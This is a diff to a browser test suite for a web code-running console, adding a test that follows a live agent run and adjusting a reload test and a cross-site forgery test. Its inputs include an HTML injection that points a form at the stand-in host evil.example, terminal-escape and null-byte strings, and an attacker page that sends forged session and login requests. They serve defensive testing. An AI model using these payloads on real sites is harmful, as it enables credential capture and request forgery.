@@ -32,6 +32,11 @@ CORPUS = [
     "<base href=http://evil.example/><form action=http://evil.example/><input name=key autofocus>",
     "\u202egnp.exe \u0000 \x1b]0;title\x07 \x1b[31mred",
 ]
+WAITING = """import os, time
+print('tick', 0, flush=True)
+while not os.path.exists('go'): time.sleep(0.01)
+print('tick', 1)
+28"""
 ALL = "\n".join(CORPUS)
 LINE = " ".join(one for one in CORPUS if "\0" not in one)
 
@@ -76,14 +81,17 @@ def test_a_cell_is_typed_run_by_keyboard_and_read_as_it_prints(signed_in, servic
     page.press("Enter")
     page.wait("document.querySelector('.composer .code-editor, .composer .code-area')")
     page.press("e")
-    page.type(
-        "import time\nfor n in range(3):\n    print('tick', n, flush=True)\n    time.sleep(0.3)\nn * 14"
-    )
+    page.type(WAITING)
     page.press("Enter", control=True)
-    page.see("tick 0")
-    assert page.run("!document.body.innerText.includes('tick 2')")
-    page.run("location.reload()")  # in mid-cell: all output, once
-    page.see("tick 2")
+    page.see("tick 0")  # while it runs
+    page.run("window.old = true; location.reload()")
+    page.wait(
+        "!window.old && document.querySelector('.cell.running .output')?.innerText.includes('tick 0')"
+    )
+    session = page.run("location.hash").rpartition("/")[2]
+    with Api(service, service.add_key(tenant="typist", scopes=SCOPES)) as api:
+        path = f"/api/v1/sessions/{session}/files/content"
+        assert api.put(path, params={"path": "go"}, content=b"1").status_code == 204
     page.wait(
         "document.querySelector('.cell .badge.ok') && document.querySelector('.output .value')?.textContent === '28'"
     )
@@ -207,7 +215,7 @@ def test_pages_of_other_sites_and_ports_change_nothing(chromium, signed_in, serv
       form.innerHTML = '<input name=\\'{"metadata":{"a":"\\' value=\\'b"}}\\'>'; document.body.append(form);
       const frame = document.createElement('iframe'); frame.name = 'sink'; document.body.append(frame);
       const framed = document.createElement('iframe'); framed.src = to + '/console'; document.body.append(framed);
-      Promise.all([post('/api/v1/sessions', {mode: 'no-cors'}), post('/api/v1/sessions', {headers: {'x-atoll-csrf': 'x'}}), post('/console/logout', {mode: 'no-cors'}), post('/console/login', {mode: 'no-cors', body: '{"key": "x"}'})]).then(() => { form.submit(); setTimeout(() => { window.done = out; }, 300); });
+      Promise.all([post('/api/v1/sessions', {mode: 'no-cors'}), post('/api/v1/sessions', {headers: {'x-atoll-csrf': 'x'}}), post('/console/logout', {mode: 'no-cors'}), post('/console/login', {mode: 'no-cors', body: '{"key": "x"}'})]).then(() => { frame.onload = () => { window.done = out; }; form.submit(); });
     </script>"""
     with (
         OtherSite(attack) as port,
@@ -225,6 +233,40 @@ def test_pages_of_other_sites_and_ports_change_nothing(chromium, signed_in, serv
         page.requests.clear()
         page.goto(f"{service.url}/console#/overview")
         page.see("No session yet")  # and it is still signed in
+
+
+def test_a_run_elsewhere_is_watched_as_it_goes(signed_in, service):
+    page, more = signed_in("watcher"), threading.Event()
+    started = kinds.RunStarted(
+        id="1", run="r", question="How many?", model="m", budget={"usd": 1.0}
+    )
+    turns = [
+        kinds.CodeRan(id=f"t{n}", run="r", turn=n, code=f"step_{n}()", duration_ms=5)
+        for n in (1, 2)
+    ]
+    ended = [
+        kinds.FinalGiven(id="f", run="r", how="FINAL", text="Exactly seven."),
+        kinds.RunEnded(id="e", run="r", outcome="answered", usd=0.25, seconds=1.0),
+    ]
+
+    def lines():
+        for number, event in enumerate([started, *turns, *ended]):
+            if number == 2:
+                assert more.wait(60)
+            yield json.dumps(to_dict(event)).encode() + b"\n"
+
+    with Api(service, service.add_key(tenant="watcher", scopes=SCOPES)) as api:
+        sender = threading.Thread(target=lambda: api.post("/api/v1/runs/upload", content=lines()))
+        sender.start()
+        page.goto(f"{service.url}/console#/runs")
+        page.click("tr[data-row]", "How many?")
+        page.see("Turn 1")
+        assert page.run("document.querySelector('.head .badge').innerText") == "running"
+        more.set()
+        page.see("Exactly seven.")
+        page.see("$0.2500 of $1.00")
+        assert page.run("document.querySelector('.head .badge').innerText") == "answered"
+        sender.join()
 
 
 @pytest.mark.parametrize("dark", [False, pytest.param(True, marks=pytest.mark.long)])
